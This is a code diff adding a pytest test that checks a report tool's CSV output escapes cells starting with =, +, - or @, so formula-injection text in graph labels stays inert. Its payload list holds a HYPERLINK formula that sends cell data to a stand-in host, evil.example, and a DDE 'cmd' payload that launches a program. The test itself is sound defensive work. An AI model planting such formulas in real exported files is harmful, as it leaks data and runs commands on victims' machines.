@@ -210,3 +210,23 @@ def test_cli_report_stdout_and_errors(store_dir):
         main, ["report", "community", "міська територіальна громада", "--store", str(store_dir)]
     )
     assert result.exit_code == 1 and "Луцька міська територіальна громада" in result.output
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|x"]
+
+
+@pytest.mark.parametrize("payload", FORMULAS)
+def test_report_csv_does_not_start_cells_with_a_formula(payload):
+    """Document text such as '=HYPERLINK(…)' is shown as text by a spreadsheet (CSV, as in XLSX)."""
+    from pyoxigraph import Literal, NamedNode, Quad
+
+    store = load_small_graph()
+    doc = NamedNode("https://w3id.org/graphtool/id/doc/news-zhytomyr.txt")
+    node = NamedNode("https://w3id.org/graphtool/id/donor/giz")
+    store.oxigraph.add(Quad(node, NamedNode("http://www.w3.org/2004/02/skos/core#prefLabel"),
+                            Literal(payload, language="uk"), doc))  # fmt: skip
+    report = build_report(store, "community", "Житомир")
+    rows = list(csv.DictReader(io.StringIO(render_report(report, "csv"))))
+    cells = [v for r in rows for v in r.values()]
+    assert "'" + payload in cells
+    assert not any(c and c[0] in "=+-@" for c in cells), [c for c in cells if c and c[0] in "=+-@"]
